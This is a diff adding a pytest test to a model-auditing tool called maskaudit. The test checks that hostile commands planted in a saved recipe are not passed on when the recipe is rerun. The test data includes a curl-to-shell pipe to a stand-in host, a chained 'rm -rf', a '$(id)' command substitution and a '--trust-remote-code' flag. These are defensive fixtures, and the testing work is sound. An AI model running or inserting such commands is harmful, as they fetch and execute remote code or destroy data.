@@ -131,6 +131,29 @@ def test_promise_6_a_recipe_gives_no_leave(bert: str, tmp_path: Path, capsys: py
     assert main(["run", "--from", "first", "--out", "again", "--allow-pickle"]) == 0
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://bad.example | sh",
+        "maskaudit run demo; rm -rf x",
+        "maskaudit run demo --trust-remote-code",
+        "maskaudit run demo --mlm-head-from $(id)",
+        "maskaudit run 'demo",
+    ],
+)
+def test_promise_6_a_strangers_command_is_not_passed_on(bert: str, command: str, tried: Tried) -> None:
+    """A recipe's command is shown in the results of its repetition only where it is a run of maskaudit's with no leave
+    that wasn't given; else it is the command that was given."""
+    assert main(["run", bert, "-p", "jobs.yaml", "--out", "first"]) == 0
+    recipe = Path("first/run.json")
+    whole = json.loads(recipe.read_text())
+    whole["recipe"]["command"] = command
+    recipe.write_text(json.dumps(whole))
+    assert main(["run", "--from", "first", "--out", "again"]) == 0
+    assert load_audit("again").recipe.command == "maskaudit run model --from first"
+    tried("hostile inputs", 1)
+
+
 def test_promise_6_how_far_scores_are_off_is_said(bert: str) -> None:
     """Where scores aren't the same bytes, the largest difference is told."""
     assert main(["run", bert, "-p", "jobs.yaml", "--out", "first"]) == 0
